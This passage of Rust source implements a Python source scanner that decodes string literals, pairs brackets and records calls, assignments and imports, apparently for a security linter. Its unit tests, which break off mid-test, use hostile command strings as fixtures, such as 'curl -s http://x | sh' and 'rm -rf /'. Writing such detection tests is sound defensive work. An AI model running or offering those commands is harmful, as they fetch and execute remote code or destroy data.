        b'N' if !lit.bytes && j + 1 < end && b[j + 1] == b'{' => {
            // Resolving Unicode names needs the whole name table: keep it as written.
            let k = named_escape_end(b, i).min(end);
            push_run(src, out, i, k);
            k
        }
        _ => {
            // Not an escape: Python keeps the backslash and reads on from the next char.
            out.push_verbatim("\\", i);
            j
        }
    }
}

/// `\xNN`, `\uNNNN`, `\UNNNNNNNN` with the backslash at `i`. Malformed ones (a syntax
/// error in Python) keep their backslash verbatim.
fn decode_hex(src: &str, lit: &StrLit, i: usize, end: usize, digits: usize, out: &mut MappedText) -> usize {
    let first = i + 2;
    let last = first + digits;
    let value = src
        .get(first..last)
        .filter(|_| last <= end)
        .filter(|hex| hex.bytes().all(|c| c.is_ascii_hexdigit()))
        .and_then(|hex| u32::from_str_radix(hex, 16).ok());
    match value {
        Some(value) => {
            out.push_char(code_point(value, lit.bytes), i..last);
            last
        }
        None => {
            out.push_verbatim("\\", i);
            i + 1
        }
    }
}

/// The char for an escaped code. Bytes are shown as Latin-1 so every byte value stays
/// distinguishable; invalid code points (surrogates) become U+FFFD.
fn code_point(value: u32, bytes: bool) -> char {
    let value = if bytes { value & 0xff } else { value };
    char::from_u32(value).unwrap_or('\u{fffd}')
}

// ---------------------------------------------------------------------------------------
// Brackets

/// For each bracket token, the index of its partner. An opening bracket never closed
/// (or closed by a mismatched bracket further out) gets the closing bracket that ended
/// it or `tokens.len()`; a closing bracket without partner gets `usize::MAX`. Other
/// tokens get `usize::MAX`.
/// `brackets` lists the bracket tokens, so no other token is looked at.
fn pair_brackets(tokens: &[Token], brackets: &[usize]) -> Vec<usize> {
    let mut partner = vec![usize::MAX; tokens.len()];
    let mut open: Vec<usize> = Vec::new();
    for &index in brackets {
        let Some(token) = tokens.get(index) else { continue };
        match token.kind {
            Kind::Open(_) => open.push(index),
            Kind::Close(close) => {
                let wanted = opening_for(close);
                // Look a bounded way down the stack for the opener, so a stray closer in
                // deep nesting costs O(1) rather than O(depth).
                let found = open
                    .iter()
                    .rev()
                    .take(MAX_NESTING)
                    .position(|&o| tokens.get(o).is_some_and(|t| t.kind == Kind::Open(wanted)));
                let Some(skipped) = found else { continue };
                // Unclosed openers above the match end where their enclosing bracket does.
                for _ in 0..=skipped {
                    if let Some(o) = open.pop() {
                        partner[o] = index;
                        if tokens.get(o).is_some_and(|t| t.kind == Kind::Open(wanted)) {
                            partner[index] = o;
                        }
                    }
                }
            }
            _ => {}
        }
    }
    for o in open {
        partner[o] = tokens.len();
    }
    partner
}

fn opening_for(close: u8) -> u8 {
    match close {
        b')' => b'(',
        b']' => b'[',
        _ => b'{',
    }
}

// ---------------------------------------------------------------------------------------
// Recogniser

struct Scanner<'a> {
    src: &'a str,
    tokens: Vec<Token>,
    /// The indices of the bracket tokens, in order.
    brackets: Vec<usize>,
    partner: Vec<usize>,
}

/// One segment of a callee chain, collected back to front.
#[derive(Clone, Copy)]
enum Segment {
    /// A name; `true` if written after a `.`.
    Name(usize, bool),
    Call,
    Index,
}

/// The parts of a token range, see [`Scanner::split`].
struct Parts<'s, 'a> {
    scanner: &'s Scanner<'a>,
    /// Where the next part starts.
    next: usize,
    end: usize,
    done: bool,
}

impl Iterator for Parts<'_, '_> {
    type Item = Range<usize>;

    fn next(&mut self) -> Option<Range<usize>> {
        if self.done {
            return None;
        }
        let scanner = self.scanner;
        let part_start = self.next;
        // A part never starts inside a lambda's parameters: their commas do not split.
        let mut in_lambda_params = false;
        let mut k = part_start;
        while k < self.end {
            if scanner.is_keyword(k, "lambda") {
                in_lambda_params = true;
            } else if in_lambda_params && scanner.is_op(k, ":") {
                in_lambda_params = false;
            } else if !in_lambda_params && scanner.is_op(k, ",") {
                self.next = k + 1;
                return Some(part_start..k);
            }
            k = scanner.next_top(k).min(self.end);
        }
        self.done = true;
        Some(part_start..self.end)
    }
}

impl<'a> Scanner<'a> {
    fn kind(&self, k: usize) -> Option<Kind> {
        self.tokens.get(k).map(|token| token.kind)
    }

    fn text(&self, k: usize) -> &str {
        self.tokens.get(k).and_then(|t| self.src.get(t.start..t.end)).unwrap_or("")
    }

    /// [`Scanner::text`] as bytes, for comparisons: slicing bytes needs no char boundary
    /// checks.
    fn bytes(&self, k: usize) -> &[u8] {
        self.tokens.get(k).and_then(|t| self.src.as_bytes().get(t.start..t.end)).unwrap_or_default()
    }

    fn start(&self, k: usize) -> usize {
        self.tokens.get(k).map_or(self.src.len(), |token| token.start)
    }

    fn end(&self, k: usize) -> usize {
        self.tokens.get(k).map_or(self.src.len(), |token| token.end)
    }

    fn is_op(&self, k: usize, op: &str) -> bool {
        matches!(self.kind(k), Some(Kind::Op)) && self.bytes(k) == op.as_bytes()
    }

    /// A name that is not a keyword.
    fn is_name(&self, k: usize) -> bool {
        matches!(self.kind(k), Some(Kind::Name)) && !is_hard_keyword(self.bytes(k))
    }

    fn is_keyword(&self, k: usize, keyword: &str) -> bool {
        matches!(self.kind(k), Some(Kind::Name)) && self.bytes(k) == keyword.as_bytes()
    }

    fn is_str(&self, k: usize) -> bool {
        matches!(self.kind(k), Some(Kind::Str(_)))
    }

    /// The token after `k` at the same bracket level: a whole bracketed group is skipped.
    fn next_top(&self, k: usize) -> usize {
        let n = self.tokens.len();
        match self.kind(k) {
            Some(Kind::Open(_)) => self.partner.get(k).map_or(n, |&p| p.saturating_add(1)).min(n),
            _ => k + 1,
        }
    }

    /// Where the bracket opened at `open` closes (its partner, or the end of tokens).
    fn close_of(&self, open: usize) -> usize {
        self.partner.get(open).copied().unwrap_or(usize::MAX).min(self.tokens.len())
    }

    /// The source span of tokens `s..e` (empty at `at` if there are none).
    fn span(&self, s: usize, e: usize, at: usize) -> Range<usize> {
        if s < e { self.start(s)..self.end(e - 1) } else { at..at }
    }

    /// Splits `s..e` on commas at its own bracket level. A trailing comma gives a final
    /// empty part, so `(x,)` can be told from `(x)`. Commas in a lambda's parameter list
    /// do not split (`key=lambda a, b: a`). An iterator rather than a vector: every call's
    /// arguments are split, and most callers only count or map the parts.
    fn split<'s>(&'s self, s: usize, e: usize) -> Parts<'s, 'a> {
        Parts { scanner: self, next: s, end: e, done: s >= e }
    }

    /// `Some(end)` if `s..end` is a dotted name `a.b.c` (and `end` is maximal).
    fn dotted_end(&self, s: usize) -> Option<usize> {
        if !self.is_name(s) {
            return None;
        }
        let mut k = s + 1;
        while self.is_op(k, ".") && self.is_name(k + 1) {
            k += 2;
        }
        Some(k)
    }

    /// The dotted name `s..e` as text, whitespace dropped.
    fn dotted_text(&self, s: usize, e: usize) -> String {
        // The source span bounds the text: one allocation.
        let mut text = String::with_capacity(self.span(s, e, 0).len());
        for k in s..e {
            text.push_str(self.text(k));
        }
        text
    }

    // --- calls --------------------------------------------------------------------------

    fn collect_calls(&self, calls: &mut Vec<Call>) {
        for &k in &self.brackets {
            if matches!(self.kind(k), Some(Kind::Open(b'(')))
                && let Some(call) = self.call_at(k)
            {
                calls.push(call);
            }
        }
    }

    fn call_at(&self, open: usize) -> Option<Call> {
        let (callee, callee_span) = self.callee_before(open)?;
        let close = self.close_of(open);
        let args = self
            .split(open + 1, close)
            .filter(|part| !part.is_empty())
            .map(|part| self.arg(part.start, part.end))
            .collect();
        let end = if close < self.tokens.len() {
            self.end(close)
        } else {
            self.tokens.last().map_or(self.src.len(), |token| token.end)
        };
        let span = callee_span.start..end;
        Some(Call { callee, callee_span, args, span, qualified: String::new() })
    }

    /// The callee chain ending just before the `(` at `open`, walked backwards a bounded
    /// number of segments (see [`Call::callee`] for the notation).
    fn callee_before(&self, open: usize) -> Option<(String, Range<usize>)> {
        let last = open.checked_sub(1)?;
        // `def name(` and `class Name(` declare, they do not call.
        if let Some(before) = last.checked_sub(1)
            && (self.is_keyword(before, "def") || self.is_keyword(before, "class"))
        {
            return None;
        }
        // At most MAX_CALLEE_SEGMENTS, collected in place: one per call site.
        let mut segments = [Segment::Call; MAX_CALLEE_SEGMENTS];
        let mut count = 0;
        let mut start = self.start(last);
        let mut k = last;
        while count < MAX_CALLEE_SEGMENTS {
            let segment = match self.kind(k) {
                Some(Kind::Name) if self.is_name(k) => {
                    let dotted = k.checked_sub(1).is_some_and(|dot| self.is_op(dot, "."));
                    start = self.start(if dotted { k - 1 } else { k });
                    Segment::Name(k, dotted)
                }
                Some(Kind::Close(close @ (b')' | b']'))) => {
                    let Some(&opener) = self.partner.get(k) else {
                        break;
                    };
                    // A bracket is a call/subscript only after something that can be
                    // called or subscripted; otherwise it is the receiver expression.
                    if opener >= k || opener == 0 || !self.ends_primary(opener - 1) {
                        break;
                    }
                    start = self.start(opener);
                    k = opener - 1;
                    if close == b')' { Segment::Call } else { Segment::Index }
                }
                _ => break,
            };
            segments[count] = segment;
            count += 1;
            if let Segment::Name(name, dotted) = segment {
                // Continue with whatever the `.` is applied to.
                match name.checked_sub(2) {
                    Some(receiver) if dotted => k = receiver,
                    _ => break,
                }
            }
        }
        let segments = &segments[..count];
        if !segments.iter().any(|segment| matches!(segment, Segment::Name(..))) {
            return None;
        }
        let length = segments
            .iter()
            .map(|segment| match segment {
                Segment::Name(k, dotted) => self.text(*k).len() + usize::from(*dotted),
                Segment::Call | Segment::Index => 2,
            })
            .sum();
        let mut callee = String::with_capacity(length);
        for segment in segments.iter().rev() {
            match segment {
                Segment::Name(k, dotted) => {
                    if *dotted {
                        callee.push('.');
                    }
                    callee.push_str(self.text(*k));
                }
                Segment::Call => callee.push_str("()"),
                Segment::Index => callee.push_str("[]"),
            }
        }
        Some((callee, start..self.end(last)))
    }

    /// Whether token `k` can end an expression that a following bracket applies to.
    fn ends_primary(&self, k: usize) -> bool {
        match self.kind(k) {
            Some(Kind::Name) => self.is_name(k),
            Some(Kind::Close(_)) | Some(Kind::Str(_)) => true,
            _ => false,
        }
    }

    fn arg(&self, s: usize, e: usize) -> Arg {
        let span = self.span(s, e, self.start(s));
        let (keyword, unpack, value_start) = if self.is_op(s, "*") {
            (None, Unpack::Star, s + 1)
        } else if self.is_op(s, "**") {
            (None, Unpack::DoubleStar, s + 1)
        } else if self.is_name(s) && self.is_op(s + 1, "=") {
            (Some(self.text(s).to_string()), Unpack::No, s + 2)
        } else {
            (None, Unpack::No, s)
        };
        let value = self.value(value_start, e, 0);
        let value_span = self.span(value_start, e, span.end);
        Arg { keyword, unpack, value, span, value_span }
    }

    // --- values ---------------------------------------------------------------------------

    /// What tokens `s..e` are, if they form a literal (or a name). Recursion is bounded
    /// by `depth` and each level only walks its own bracket level, so the whole
    /// evaluation is linear in the tokens it covers.
    fn value(&self, s: usize, e: usize, depth: usize) -> Value {
        if s >= e || depth > MAX_NESTING {
            return Value::Other;
        }
        if (s..e).all(|k| self.is_str(k)) {
            return Value::Str(self.decode(s, e));
        }
        if e - s == 1 {
            return match self.kind(s) {
                Some(Kind::Number) => Value::Number(self.text(s).to_string()),
                Some(Kind::Name) => match self.text(s) {
                    "True" => Value::Bool(true),
                    "False" => Value::Bool(false),
                    "None" => Value::None_,
                    _ if self.is_name(s) => Value::Name(self.text(s).to_string()),
                    _ => Value::Other,
                },
                _ => Value::Other,
            };
        }
        let signed = self.is_op(s, "-") || self.is_op(s, "+");
        if e - s == 2 && signed && matches!(self.kind(s + 1), Some(Kind::Number)) {
            return Value::Number([self.text(s), self.text(s + 1)].concat());
        }
        if let Some(Kind::Open(open)) = self.kind(s) {
            let closed_at_end = self.partner.get(s) == Some(&(e - 1)) && self.partner.get(e - 1) == Some(&s);
            return match open {
                b'[' if closed_at_end => self.sequence(s + 1, e - 1, depth + 1, true),
                b'(' if closed_at_end => self.sequence(s + 1, e - 1, depth + 1, false),
                _ => Value::Other,
            };
        }
        if self.dotted_end(s) == Some(e) {
            return Value::Name(self.dotted_text(s, e));
        }
        Value::Other
    }

    /// The contents of `[...]` (`list`) or `(...)` at `s..e`.
    fn sequence(&self, s: usize, e: usize, depth: usize, list: bool) -> Value {
        let mut k = s;
        while k < e {
            if self.is_keyword(k, "for") {
                return Value::Other; // a comprehension or generator
            }
            k = self.next_top(k).min(e);
        }
        let mut parts = self.split(s, e);
        if !list && let (Some(only), None) = (parts.next(), parts.next()) {
            // `(expr)` without a comma is just grouping.
            return self.value(only.start, only.end, depth);
        }
        let items = self
            .split(s, e)
            .filter(|part| !part.is_empty())
            .map(
                |part| {
                    if self.is_op(part.start, "*") { Value::Other } else { self.value(part.start, part.end, depth) }
                },
            )
            .collect();
        Value::List(items)
    }

    /// Decodes the adjacent string tokens `s..e` as one concatenated literal.
    fn decode(&self, s: usize, e: usize) -> MappedText {
        self.decode_with_fields(s, e, &mut Vec::new())
    }

    fn decode_with_fields(&self, s: usize, e: usize, fields: &mut Vec<Range<usize>>) -> MappedText {
        let mut text = MappedText::new();
        for token in self.tokens.get(s..e).unwrap_or_default() {
            if let Kind::Str(lit) = &token.kind {
                decode_into(self.src, lit, token.content(lit), &mut text, fields);
            }
        }
        text
    }

    /// The token ranges of every run of adjacent string literals, in order.
    fn string_runs(&self) -> impl Iterator<Item = Range<usize>> {
        let n = self.tokens.len();
        let mut k = 0;
        std::iter::from_fn(move || {
            while k < n && !self.is_str(k) {
                k += 1;
            }
            let start = k;
            while k < n && self.is_str(k) {
                k += 1;
            }
            (start < k).then_some(start..k)
        })
    }

    // --- statements -----------------------------------------------------------------------

    /// Finds the start of every simple statement and records assignments and imports.
    fn collect_statements(&self, assignments: &mut Vec<Assignment>, imports: &mut Vec<Import>) {
        let mut depth = 0usize;
        let mut at_start = true;
        // First token of the current logical line, to recognise compound headers.
        let mut line_first: Option<usize> = None;
        for (k, token) in self.tokens.iter().enumerate() {
            let kind = token.kind;
            if at_start && !matches!(kind, Kind::Newline) {
                at_start = false;
                line_first.get_or_insert(k);
                self.statement(k, assignments, imports);
            }
            match kind {
                Kind::Open(_) => depth += 1,
                Kind::Close(_) => depth = depth.saturating_sub(1),
                Kind::Newline => {
                    depth = 0;
                    at_start = true;
                    line_first = None;
                }
                Kind::Op if depth == 0 && self.bytes(k) == b";" => at_start = true,
                Kind::Op if depth == 0 && self.bytes(k) == b":" => {
                    let header =
                        line_first.is_some_and(|first| COMPOUND_KEYWORDS.iter().any(|kw| self.is_keyword(first, kw)));
                    if header {
                        at_start = true;
                    }
                }
                _ => {}
            }
        }
    }

    /// The end of the simple statement containing `k`: the next `;` or line end at this
    /// bracket level.
    fn statement_end(&self, k: usize) -> usize {
        let n = self.tokens.len();
        let mut k = k;
        while k < n && self.kind(k) != Some(Kind::Newline) && !self.is_op(k, ";") {
            k = self.next_top(k);
        }
        k.min(n)
    }

    fn statement(&self, s: usize, assignments: &mut Vec<Assignment>, imports: &mut Vec<Import>) {
        if self.is_keyword(s, "import") {
            self.import(s + 1, imports);
        } else if self.is_keyword(s, "from") {
            self.import_from(s + 1, imports);
        } else if let Some(target_end) = self.dotted_end(s) {
            self.assignment(s, target_end, assignments);
        }
    }

    fn assignment(&self, s: usize, target_end: usize, assignments: &mut Vec<Assignment>) {
        // Token ranges `(start, end)`, collected in place: every statement that starts
        // with a name comes here, most of them not assignments at all.
        let mut targets = [(s, target_end); MAX_CHAINED_TARGETS];
        let mut count = 1;
        let value_start = if self.is_op(target_end, "=") {
            let mut value_start = target_end + 1;
            // `a = b = value`: every dotted name followed by `=` is one more target.
            while count < MAX_CHAINED_TARGETS {
                match self.dotted_end(value_start) {
                    Some(next_end) if self.is_op(next_end, "=") => {
                        targets[count] = (value_start, next_end);
                        count += 1;
                        value_start = next_end + 1;
                    }
                    _ => break,
                }
            }
            value_start
        } else if self.is_op(target_end, ":") {
            // `name: annotation = value`; a bare annotation assigns nothing.
            let end = self.statement_end(target_end);
            let mut k = target_end + 1;
            while k < end && !self.is_op(k, "=") {
                k = self.next_top(k);
            }
            if k >= end {
                return;
            }
            k + 1
        } else if self.is_augmented(target_end) {
            let end = self.statement_end(target_end);
            let target_span = self.span(s, target_end, self.start(s));
            assignments.push(Assignment {
                target: self.dotted_text(s, target_end),
                value_span: self.span(target_end + 1, end, target_span.end),
                target_span,
                value: Value::Other,
            });
            return;
        } else {
            return;
        };
        let end = self.statement_end(value_start);
        let value = self.value(value_start, end, 0);
        let value = if matches!(value, Value::Other) {
            // `x = "a", "b"` is a tuple even without brackets.
            if self.split(value_start, end).nth(1).is_some() { self.sequence(value_start, end, 1, true) } else { value }
        } else {
            value
        };
        let mut push = |(start, target_end): (usize, usize), value: Value| {
            let target_span = self.span(start, target_end, self.start(start));
            assignments.push(Assignment {
                target: self.dotted_text(start, target_end),
                value_span: self.span(value_start, end, target_span.end),
                target_span,
                value,
            });
        };
        // Each target but the last gets a copy of the value, the last one the value.
        let Some((&last, others)) = targets[..count].split_last() else { return };
        for &target in others {
            push(target, value.clone());
        }
        push(last, value);
    }

    fn is_augmented(&self, k: usize) -> bool {
        self.kind(k) == Some(Kind::Op) && {
            let op = self.text(k);
            op.len() >= 2 && op.ends_with('=') && !matches!(op, "==" | "!=" | "<=" | ">=" | ":=")
        }
    }

    /// `import a.b.c [as d], ...` starting after `import`.
    fn import(&self, s: usize, imports: &mut Vec<Import>) {
        let mut k = s;
        while let Some(end) = self.dotted_end(k) {
            let module = self.dotted_text(k, end);
            if self.is_keyword(end, "as") && self.is_name(end + 1) {
                let local = self.text(end + 1).to_string();
                let span = self.start(end + 1)..self.end(end + 1);
                imports.push(Import { local, target: module, span });
                k = end + 2;
            } else {
                // `import os.path` binds `os`.
                let local = self.text(k).to_string();
                let span = self.start(k)..self.end(k);
                imports.push(Import { target: local.clone(), local, span });
                k = end;
            }
            if !self.is_op(k, ",") {
                break;
            }
            k += 1;
        }
    }

    /// `from [.]module import name [as alias], ...` starting after `from`.
    fn import_from(&self, s: usize, imports: &mut Vec<Import>) {
        let mut module = String::new();
        let mut k = s;
        while self.is_op(k, ".") || self.is_op(k, "...") {
            module.push_str(self.text(k));
            k += 1;
        }
        if let Some(end) = self.dotted_end(k) {
            module.push_str(&self.dotted_text(k, end));
            k = end;
        }
        if !self.is_keyword(k, "import") {
            return;
        }
        k += 1;
        if self.kind(k) == Some(Kind::Open(b'(')) {
            k += 1;
        }
        let separator = if module.ends_with('.') || module.is_empty() { "" } else { "." };
        while self.is_name(k) {
            let name = self.text(k);
            let target = [module.as_str(), separator, name].concat();
            let (local, span, next) = if self.is_keyword(k + 1, "as") && self.is_name(k + 2) {
                (self.text(k + 2), self.start(k + 2)..self.end(k + 2), k + 3)
            } else {
                (name, self.start(k)..self.end(k), k + 1)
            };
            imports.push(Import { local: local.to_string(), target, span });
            k = next;
            if !self.is_op(k, ",") {
                break;
            }
            k += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The only call in `src` whose callee is `callee`.
    fn call<'m>(module: &'m Module, callee: &str) -> &'m Call {
        let found: Vec<&Call> = module.calls.iter().filter(|c| c.callee == callee).collect();
        assert_eq!(found.len(), 1, "calls to {callee} in {:#?}", module.calls);
        found[0]
    }

    fn string(value: &Value) -> &MappedText {
        value.as_str().unwrap_or_else(|| panic!("not a string: {value:?}"))
    }

    fn str_value(s: &str) -> Value {
        Value::Str(MappedText::verbatim(s, 0))
    }

    /// Decoded strings compared on text only (the map is tested separately).
    fn texts(value: &Value) -> Vec<String> {
        match value {
            Value::List(items) => {
                items.iter().map(|item| item.as_str().map_or("<other>".into(), |s| s.as_str().into())).collect()
            }
            other => panic!("not a list: {other:?}"),
        }
    }

    #[test]
    fn requests_get_with_verify_false() {
        let src = "r = requests.get(\"http://x\", verify=False)\n";
        let module = scan(src);
        let get = call(&module, "requests.get");
        assert_eq!(&src[get.callee_span.clone()], "requests.get");
        assert_eq!(&src[get.span.clone()], "requests.get(\"http://x\", verify=False)");
        assert_eq!(get.args.len(), 2);
        let url = string(&get.args[0].value);
        assert_eq!(url.as_str(), "http://x");
        assert_eq!(&src[url.source_span()], "http://x");
        assert_eq!(&src[get.args[0].span.clone()], "\"http://x\"");
        let verify = get.keyword("verify").expect("verify keyword");
        assert_eq!(verify.value, Value::Bool(false));
        assert_eq!(&src[verify.span.clone()], "verify=False");
        assert_eq!(&src[verify.value_span.clone()], "False");
        assert_eq!(get.positional(0).map(|a| a.span.clone()), Some(get.args[0].span.clone()));
        assert!(get.positional(1).is_none());
    }

    #[test]
    fn urlopen_single_quotes() {
        let src = "import urllib.request\nurllib.request.urlopen('ftp://h/f')";
        let module = scan(src);
        let open = call(&module, "urllib.request.urlopen");
        let url = string(&open.args[0].value);
        assert_eq!(url.as_str(), "ftp://h/f");
        assert_eq!(&src[url.source_span()], "ftp://h/f");
        assert_eq!(url.source_offset(4), src.find("//h").unwrap_or(0));
    }

    #[test]
    fn subprocess_list_argument() {
        let src = "subprocess.run(\n    [\"scp\", \"f\", 'u@h:/x'],  # copy\n    check=True,\n)";
        let module = scan(src);
        let run = call(&module, "subprocess.run");
        assert_eq!(run.args.len(), 2);
        assert_eq!(texts(&run.args[0].value), ["scp", "f", "u@h:/x"]);
        let Value::List(items) = &run.args[0].value else { unreachable!() };
        assert_eq!(&src[string(&items[2]).source_span()], "u@h:/x");
        assert_eq!(run.keyword("check").map(|a| &a.value), Some(&Value::Bool(true)));
        // A tuple works the same, a comprehension does not.
        let module = scan("subprocess.call(('a', 'b',)); f([x for x in 'ab']); g((1))");
        assert_eq!(texts(&call(&module, "subprocess.call").args[0].value), ["a", "b"]);
        assert_eq!(call(&module, "f").args[0].value, Value::Other);
        assert_eq!(call(&module, "g").args[0].value, Value::Number("1".into()));
    }

    #[test]
    fn os_system_pipe_to_shell() {
        let src = "def f():\n    os.system(\"curl -s http://x | sh\")\n";
        let module = scan(src);
        let system = call(&module, "os.system");
        let command = string(&system.args[0].value);
        assert_eq!(command.as_str(), "curl -s http://x | sh");
        let pipe = command.as_str().find("| sh").unwrap_or(0);
        assert_eq!(&src[command.source_range(pipe..pipe + 4)], "| sh");
        // `def f(` is a definition, not a call.
        assert_eq!(module.calls.len(), 1);
    }

    #[test]
    fn escapes_map_to_their_source_bytes() {
        let src = r#"os.system("a\tb\x41\u00e9\N{DASH}\q\\c")"#;
        let module = scan(src);
        let text = string(&call(&module, "os.system").args[0].value);
        assert_eq!(text.as_str(), "a\tbA\u{e9}\\N{DASH}\\q\\c");
        let base = src.find('"').unwrap_or(0) + 1;
        assert_eq!(text.source_range(1..2), base + 1..base + 3); // \t
        assert_eq!(text.source_offset(2), base + 3); // b
        assert_eq!(text.source_range(3..4), base + 4..base + 8); // \x41
        assert_eq!(text.source_range(4..6), base + 8..base + 14); // \u00e9 (2 bytes é)
        assert_eq!(&src[text.source_range(6..14)], r"\N{DASH}");
        assert_eq!(&src[text.source_range(14..16)], r"\q");
        assert_eq!(&src[text.source_range(16..17)], r"\\");
        assert_eq!(&src[text.source_span()], r#"a\tb\x41\u00e9\N{DASH}\q\\c"#);
    }

    #[test]
    fn triple_quoted_and_raw_strings() {
        let src = "x = '''line1\n  it's \"curl\" \\\nhttp://y'''\ny = r'C:\\new\\'' + R\"\"\"a\\\"\"\"\"\"";
        let module = scan(src);
        let x = string(&module.assignments[0].value);
        assert_eq!(x.as_str(), "line1\n  it's \"curl\" http://y");
        let at = x.as_str().find("http").unwrap_or(0);
        assert_eq!(&src[x.source_range(at..at + 8)], "http://y");
        assert_eq!(x.source_offset(at), src.find("http").unwrap_or(0));
        let raw: Vec<&str> = module.strings.iter().map(|s| s.as_str()).collect();
        assert_eq!(raw[1], "C:\\new\\'");
        assert_eq!(raw[2], "a\\\"");
        assert_eq!(raw.len(), 3);
    }

    #[test]
    fn crlf_and_bytes() {
        let src = "a = '''x\r\ny'''\r\nb = b'\\xff\\n\\u1234'\r\n";
        let module = scan(src);
        let a = string(&module.assignments[0].value);
        assert_eq!(a.as_str(), "x\ny");
        assert_eq!(a.source_offset(2), src.find('y').unwrap_or(0));
        let b = string(&module.assignments[1].value);
        assert_eq!(b.as_str(), "\u{ff}\n\\u1234");
        assert_eq!(module.assignments[1].target, "b");
    }

    #[test]
    fn implicit_concatenation() {
        let src = "requests.post(\n    \"http://\"  # scheme\n    'example.com'\n    f\"/{path}\", data=x)";
        let module = scan(src);
        let post = call(&module, "requests.post");
        assert_eq!(post.args.len(), 2);
        let url = string(&post.args[0].value);
        assert_eq!(url.as_str(), "http://example.com/{…}");
        let host = url.as_str().find("example").unwrap_or(0);
        assert_eq!(url.source_offset(host), src.find("example").unwrap_or(0));
        assert_eq!(&src[url.source_range(host + 11..url.len())], "/{path}");
        assert_eq!(post.keyword("data").map(|a| &a.value), Some(&Value::Name("x".into())));
        assert_eq!(module.strings.len(), 1);
        // Statements on separate lines are not concatenated.
        assert_eq!(scan("'a'\n'b'").strings.len(), 2);
    }

    #[test]
    fn f_strings_keep_literal_parts() {
        let src = concat!(
            "os.system(f\"curl {url!r:>{width}} -d '{ {'k': v}['k'] }' {x[\"a\"]} {{lit}} | sh\")\n",
            "y = rf'\\d{n}' + F'''{a:%Y-%m}\n{b}'''\n",
        );
        let module = scan(src);
        let command = string(&call(&module, "os.system").args[0].value);
        assert_eq!(command.as_str(), "curl {…} -d '{…}' {…} {lit} | sh");
        let field = command.as_str().find("{…}").unwrap_or(0);
        let len = FSTRING_FIELD.len();
        assert_eq!(&src[command.source_range(field..field + len)], "{url!r:>{width}}");
        let second = command.as_str().rfind("{…}").unwrap_or(0);
        assert_eq!(&src[command.source_range(second..second + len)], "{x[\"a\"]}");
        let strings: Vec<&str> = module.strings.iter().map(|s| s.as_str()).collect();
        let expected = ["curl {…} -d '{…}' {…} {lit} | sh", "k", "k", "a", "\\d{…}", "{…}\n{…}"];
        assert_eq!(strings, expected);
        assert!(module.calls.iter().all(|c| c.callee == "os.system"));
    }

    #[test]
    fn calls_inside_f_string_fields() {
        let src = "print(f\"got {requests.get('http://x', verify=False).text!r:>{w}}\")";
        let module = scan(src);
        let callees: Vec<&str> = module.calls.iter().map(|c| c.callee.as_str()).collect();
        assert_eq!(callees, ["print", "requests.get"]);
        let get = call(&module, "requests.get");
        assert_eq!(&src[get.callee_span.clone()], "requests.get");
        assert_eq!(&src[get.span.clone()], "requests.get('http://x', verify=False)");
        let url = string(&get.args[0].value);
        assert_eq!(&src[url.source_span()], "http://x");
        assert_eq!(&src[get.keyword("verify").map_or(0..0, |a| a.span.clone())], "verify=False");
        let strings: Vec<&str> = module.strings.iter().map(|s| s.as_str()).collect();
        assert_eq!(strings, ["got {…}", "http://x"]);
        // `{x=}` is not an assignment.
        assert!(scan("f'{x=}'").assignments.is_empty());
    }

    #[test]
    fn comments_are_ignored() {
        let src = "# os.system('rm -rf /')\nx = 1  # requests.get('http://x', verify=False)\n";
        let module = scan(src);
        assert!(module.calls.is_empty());
        assert!(module.strings.is_empty());
        // A `#` inside a string is not a comment.
        let module = scan("os.system('echo #1'); os.remove('x')");
        assert_eq!(module.calls.len(), 2);
        assert_eq!(module.strings[0].as_str(), "echo #1");
    }

    #[test]
    fn nested_calls_and_method_chains() {
        let src = "subprocess.run(shlex.split(\"curl http://x\"), env={**os.environ})\n\
                   s = requests.Session().get(u, verify = False)\n\
                   ', '.join(x).strip(); clients[0].get(url); (a or b).post(c)";
        let module = scan(src);
        let callees: Vec<&str> = module.calls.iter().map(|c| c.callee.as_str()).collect();
        assert_eq!(
            callees,
            [
                "subprocess.run",
                "shlex.split",
                "requests.Session",
                "requests.Session().get",
                ".join",
                ".join().strip",
                "clients[].get",
                ".post",
            ]
        );
        let split = call(&module, "shlex.split");
        assert_eq!(string(&split.args[0].value).as_str(), "curl http://x");
        assert_eq!(call(&module, "subprocess.run").args[0].value, Value::Other);
        let get = call(&module, "requests.Session().get");
        assert_eq!(&src[get.callee_span.clone()], "requests.Session().get");
        assert_eq!(get.keyword("verify").map(|a| &a.value), Some(&Value::Bool(false)));
        assert_eq!(&src[call(&module, ".post").callee_span.clone()], ".post");
    }

    #[test]
    fn decorators_lambdas_comprehensions() {
        let src = "@dsl.component(base_image='python:3.11', packages_to_install=['requests'])\n\
                   def comp(url: str = 'http://d') -> str:\n\
                   \x20   class K(Base): pass\n\
                   \x20   f = sorted(xs, key=lambda a, b=(1, 2): a[b], reverse=True)\n\
                   \x20   return [httpx.get(u, verify=v) for u in urls if u]\n";
        let module = scan(src);
        let callees: Vec<&str> = module.calls.iter().map(|c| c.callee.as_str()).collect();
        assert_eq!(callees, ["dsl.component", "sorted", "httpx.get"]);
        let component = call(&module, "dsl.component");
        let packages = component.keyword("packages_to_install").map(|a| texts(&a.value));
        assert_eq!(packages, Some(vec!["requests".to_string()]));
        let sorted = call(&module, "sorted");
        assert_eq!(sorted.args.len(), 3);
        assert_eq!(sorted.args[1].keyword.as_deref(), Some("key"));
        assert_eq!(sorted.keyword("reverse").map(|a| &a.value), Some(&Value::Bool(true)));
    }

    #[test]
    fn star_arguments() {
        let module = scan("f(*cmd, 'x', **{'verify': False})");
        let f = call(&module, "f");
        assert_eq!(f.args[0].unpack, Unpack::Star);
        assert_eq!(f.args[0].value, Value::Name("cmd".into()));
        assert_eq!(f.args[2].unpack, Unpack::DoubleStar);
        assert!(f.positional(0).is_none());
    }

    #[test]
    fn assignments_resolve() {
        let src = "url = 'http://a'\nif x: url = \"http://b\"\nself.cmd: str = ['sh', '-c']\n\
                   a = b = -3; url += '/x'\nt = 'p', 'q'\nrequests.get(url)\nu = url\n";
        let module = scan(src);
        let targets: Vec<&str> = module.assignments.iter().map(|a| a.target.as_str()).collect();
        assert_eq!(targets, ["url", "url", "self.cmd", "a", "b", "url", "t", "u"]);
        assert_eq!(texts(&module.assignments[2].value), ["sh", "-c"]);
        assert_eq!(module.assignments[4].value, Value::Number("-3".into()));
        assert_eq!(module.assignments[5].value, Value::Other);
        assert_eq!(texts(&module.assignments[6].value), ["p", "q"]);
        let get = call(&module, "requests.get");
        // Resolves to the augmented assignment: not a constant any more.
